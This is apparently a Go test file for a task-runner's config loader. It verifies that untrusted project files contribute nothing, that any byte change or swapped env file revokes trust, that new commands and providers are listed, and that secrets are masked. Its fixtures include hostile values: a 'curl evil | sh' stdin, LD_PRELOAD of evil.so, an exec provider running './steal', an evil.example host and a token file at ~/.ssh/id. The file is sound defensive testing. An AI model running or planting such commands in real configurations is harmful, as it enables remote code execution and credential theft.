package config_test

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tacit/internal/config"
	"tacit/internal/fault"
)

// wanting is a file that wants something of every kind.
const wanting = `secrets:
  default_provider: theirs
  providers: {theirs: {type: exec, command: [./steal]}}
env: {LD_PRELOAD: ./evil.so, A: "${secret:db}"}
env_files: [.env]
tasks: {build: ./evil.sh}
vars: {a: b}
`

// isEmpty reports whether nothing of a project is in c.
func isEmpty(c *config.Config) bool {
	return c.DefaultProvider == "" && len(c.Providers)+len(c.Env)+len(c.EnvFiles)+len(c.Tasks)+len(c.Profiles) == 0 && c.Vars.Table == nil && c.Targets.Table == nil
}

func TestI20NothingBeforeTrust(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.file("tacit.yaml", wanting)
	p.file(".env", "X=1\n")
	c := p.mustLoad()
	if c.Project == nil || c.Project.Trusted || c.Project.Changed || !isEmpty(c) {
		t.Fatalf("%+v", c)
	}
	if !c.Project.DeclaresSecrets() {
		t.Error("it has a secrets table")
	}
	if _, ok := c.Value("vars.a"); ok {
		t.Error("a value of the file is there")
	}
	if _, err := c.WithProfiles("p"); !errors.Is(err, fault.Usage) {
		t.Error(err)
	}
}

func TestI20AnyByteThatChanges(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	env := p.file(".env", "X=1\n")
	p.trusted(wanting)
	if c := p.mustLoad(); !c.Project.Trusted || len(c.Tasks) != 1 || string(c.EnvFiles[0].Text) != "X=1\n" {
		t.Fatalf("trusted: %+v", c)
	}
	for i := range len(wanting) {
		changed := []byte(wanting)
		changed[i] ^= 1
		p.file("tacit.yaml", string(changed))
		if c := p.mustLoad(); c.Project.Trusted || !c.Project.Changed || !isEmpty(c) {
			t.Fatalf("byte %d: %+v", i, c)
		}
	}
	for name, text := range map[string]string{"longer": wanting + "\n", "shorter": wanting[:len(wanting)-1], "empty": ""} {
		p.file("tacit.yaml", text)
		if c := p.mustLoad(); c.Project.Trusted {
			t.Errorf("%s: trusted", name)
		}
	}
	p.file("tacit.yaml", wanting)
	if c := p.mustLoad(); !c.Project.Trusted {
		t.Error("the same bytes are the same file")
	}
	// The env file is part of what was seen.
	for name, change := range map[string]func() error{
		"other text": func() error { return os.WriteFile(env, []byte("X=2\n"), 0o600) },
		"empty":      func() error { return os.WriteFile(env, nil, 0o600) },
		"gone":       func() error { return os.Remove(env) },
		"a link":     func() error { return errors.Join(os.Remove(env), os.Symlink(p.file("elsewhere", "X=1\n"), env)) },
	} {
		p.file(".env", "X=1\n")
		if err := change(); err != nil {
			t.Fatal(err)
		}
		if c := p.mustLoad(); c.Project.Trusted || !isEmpty(c) {
			t.Errorf("env file %s: %+v", name, c)
		}
		if err := os.Remove(env); err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
	}
}

// What is trusted is the content at one path: a copy elsewhere is another file.
func TestI20TrustIsOfAPath(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.trusted("tasks: {a: b}\n")
	p.file("sub/tacit.yaml", "tasks: {a: b}\n")
	p.dir = filepath.Join(p.dir, "sub")
	if c := p.mustLoad(); c.Project.Trusted || !isEmpty(c) {
		t.Errorf("%+v", c)
	}
}

// A file is read once: what is put in its place afterwards is neither what is trusted nor what is used.
func TestI20WhatWasShownIsWhatIsTrusted(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.file(".env", "GOOD=1\n")
	f, err := config.Open(p.file("tacit.yaml", "env_files: [.env]\ntasks: {a: good}\n"))
	if err != nil {
		t.Fatal(err)
	}
	wants, before, err := p.trust.News(f)
	if err != nil || before || len(wants) != 2 {
		t.Fatal(wants, before, err)
	}
	p.file("tacit.yaml", "env_files: [.env]\ntasks: {a: evil}\n") // while the user reads
	p.file(".env", "LD_PRELOAD=evil.so\n")
	if err := p.trust.Add(t.Context(), f); err != nil {
		t.Fatal(err)
	}
	if c := p.mustLoad(); c.Project.Trusted || !isEmpty(c) {
		t.Errorf("%+v", c)
	}
	p.file("tacit.yaml", "env_files: [.env]\ntasks: {a: good}\n")
	if c := p.mustLoad(); c.Project.Trusted {
		t.Error("with another env file")
	}
	p.file(".env", "GOOD=1\n")
	if c := p.mustLoad(); !c.Project.Trusted {
		t.Error("what was shown is not trusted")
	}
}

func TestI20NewsAreMarked(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.file(".env", "X=1\n")
	p.trusted(wanting)
	p.file(".env", "X=2\n")
	f, err := config.Open(p.file("tacit.yaml", "# moved\n"+strings.Replace(wanting, "./evil.sh", "./worse.sh", 1)+"profiles: {p: {env: {B: tacit://other}}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	wants, before, err := p.trust.News(f)
	if err != nil || !before {
		t.Fatal(before, err)
	}
	var old, fresh []string
	for _, w := range wants {
		if line := w.Kind + " " + w.Text; w.New {
			fresh = append(fresh, line)
		} else {
			old = append(old, line)
		}
	}
	if got := strings.Join(fresh, "; "); got != "command build: ./worse.sh; env file .env; variable B=${secret:other}; secret other" {
		t.Error(got)
	}
	if got := strings.Join(old, "; "); got != "default provider theirs; provider theirs type=exec command=[./steal]; variable LD_PRELOAD=./evil.so; variable A=${secret:db}; secret db" {
		t.Error(got)
	}
	if was, err := p.trust.Remove(t.Context(), f.Path); !was || err != nil {
		t.Error(was, err)
	}
	if was, err := p.trust.Remove(t.Context(), f.Path); was || err != nil {
		t.Error(was, err)
	}
}

// A variable that decides where a provider is, which program runs, or what a variable of it holds, is not news that nobody sees.
func TestI20NewsBehindVariables(t *testing.T) {
	t.Parallel()
	const text = `vars: {addr: "https://${vars.host}", host: good.example, tool: make}
secrets: {providers: {vault: {address: "${vars.addr}"}}}
env: {URL: "${vars.addr}"}
tasks: {build: "${vars.tool} all"}
profiles: {p: {vars: {port: 1}}}
`
	for change, want := range map[string]string{
		"host: evil.example":          "provider vault address=https://evil.example; variable URL=https://evil.example",
		"host: good.example, x: y":    "",
		"host: good.example/../.. ":   "provider vault address=https://good.example/../..; variable URL=https://good.example/../..",
		"host: '${env.HOST}'":         "provider vault address=https://${env.HOST}; variable URL=https://${env.HOST}",
		"host: '${secret:db}'":        "provider vault address=https://${secret:db}; variable URL=https://${secret:db}; secret db",
		"host: good.example, tool: a": "twice",
		"host: '${env.HOST:-evil}'":   "provider vault address=https://${env.HOST:-evil}; variable URL=https://${env.HOST:-evil}",
	} {
		p := newPlace(t)
		p.trusted(text)
		changed := strings.Replace(text, "host: good.example", change, 1)
		f, err := config.Open(p.file("tacit.yaml", changed))
		if err != nil {
			t.Fatal(err)
		}
		if want == "twice" {
			if len(f.Problems()) == 0 {
				t.Error("a key may be there twice")
			}
			continue
		}
		if got := news(t, p, f); got != want {
			t.Errorf("%s: %s", change, got)
		}
	}
	p := newPlace(t)
	p.trusted(text)
	f, err := config.Open(p.file("tacit.yaml", strings.NewReplacer("port: 1", "host: evil.example", "tool: make", "tool: ./evil").Replace(text)))
	if err != nil {
		t.Fatal(err)
	}
	if got := news(t, p, f); got != "provider vault address=https://evil.example; command build: ./evil all; variable URL=https://evil.example" {
		t.Error(got)
	}
}

// The default of a variable of the environment, or of a parameter, is what counts when that is not set.
func TestI20NewsInDefaults(t *testing.T) {
	t.Parallel()
	const text = `vars: {fallback: make}
tasks:
  a: "${env.CC:-cc} x"
  b: "${env.CC:-${vars.fallback}} y"
  c: {params: [p], command: "${params.p:-${env.Z:-z}} ${vars.none:-${env.Q:-q}}"}
`
	p := newPlace(t)
	p.trusted(text)
	f, err := config.Open(p.file("tacit.yaml", strings.NewReplacer("-cc", "-evil\\\\}", "make", "worse", "-z", "-${secret:z}", "-q", "-").Replace(text)))
	if err != nil {
		t.Fatal(err)
	}
	if got := news(t, p, f); got != `command a: ${env.CC:-evil\}} x; command b: ${env.CC:-worse} y; command c: ${params.p:-${env.Z:-${secret:z}}} ${env.Q:-}; secret z` {
		t.Error(got)
	}
}

// What a command reads, and what stands for its parameters when nobody gives them, is as good as the command.
func TestI20WhatACommandReadsIsShown(t *testing.T) {
	t.Parallel()
	const text = `vars: {tool: make}
tasks:
  lint: {command: sh, stdin: "true"}
  build: {params: [plain, {name: tool, default: "${vars.tool}"}], command: "${params.tool} all"}
  all: {steps: [{command: cat, stdin: fine}]}
`
	p := newPlace(t)
	p.trusted(text)
	f, err := config.Open(p.file("tacit.yaml", strings.NewReplacer(`"true"`, "curl evil | sh", "fine", "worse", "tool: make", "tool: ./.x/evil").Replace(text)))
	if err != nil {
		t.Fatal(err)
	}
	if got := news(t, p, f); got != "command lint reads: curl evil | sh; command build with ${params.tool}: ./.x/evil; command all reads: worse" {
		t.Error(got)
	}
}

// news lists what is new in a file, in a line.
func news(t *testing.T, p *place, f *config.File) string {
	t.Helper()
	wants, before, err := p.trust.News(f)
	if err != nil || !before {
		t.Fatal(before, err)
	}
	var fresh []string
	for _, w := range wants {
		if w.New {
			fresh = append(fresh, w.Kind+" "+w.Text)
		}
	}
	return strings.Join(fresh, "; ")
}

// The file of trust holds no text of a project, whose author may have written a password into it.
func TestTrustKeepsNoText(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.trusted("tasks: {canary: echo hunter2canary}\nenv: {CANARY: hunter2canary}\n")
	text, err := os.ReadFile(filepath.Join(p.dir, "state", "trusted_projects"))
	if err != nil || bytes.Contains(bytes.ToLower(text), []byte("canary")) {
		t.Errorf("%s, %v", text, err)
	}
}

func TestWantsHideWhatIsWrittenDown(t *testing.T) {
	t.Parallel()
	f := config.Parse("/x/tacit.yaml", []byte(`secrets: {providers: {v: {token: hunter2, auth: {approle: {secret_id: hunter3, role_id: r}}, client_secret: "${secret:c}", token_file: ~/.ssh/id, secret_id_path: /p, token_url: "https://evil"}}}`))
	for _, w := range f.Wants() {
		if strings.Contains(w.Text, "hunter") {
			t.Error(w)
		}
		if w.Kind == config.WantProvider && w.Text != "v token=*** auth={approle={secret_id=*** role_id=r}} client_secret=${secret:c} token_file=~/.ssh/id secret_id_path=/p token_url=https://evil" {
			t.Error(w.Text)
		}
	}
}

func TestFindGoesUp(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	file := p.file("tacit.yaml", "vars: {}\n")
	p.file("a/b/c/x", "")
	f, err := config.Find(filepath.Join(p.dir, "a", "b", "c"))
	if err != nil || f == nil || f.Path != file {
		t.Errorf("%+v, %v", f, err)
	}
	p.file("a/b/tacit.yaml", "vars: {}\n")
	if f, err = config.Find(filepath.Join(p.dir, "a", "b", "c")); err != nil || f.Path != filepath.Join(p.dir, "a", "b", "tacit.yaml") {
		t.Errorf("the nearest: %+v, %v", f, err)
	}
	if f, err := config.Find(filepath.Join(p.dir, "absent", "dir")); err != nil || f != nil && f.Path != file {
		t.Errorf("a directory that is gone: %+v, %v", f, err)
	}
}

func BenchmarkNoProject(b *testing.B) {
	dir := filepath.Join(b.TempDir(), "a", "b", "c")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		b.Fatal(err)
	}
	o := config.Options{Dir: dir, UserFile: filepath.Join(dir, "config.yaml"), Trust: config.NewTrust(dir)}
	for b.Loop() {
		if c, err := config.Load(o); err != nil || c.Project != nil {
			b.Fatal(c, err)
		}
	}
}
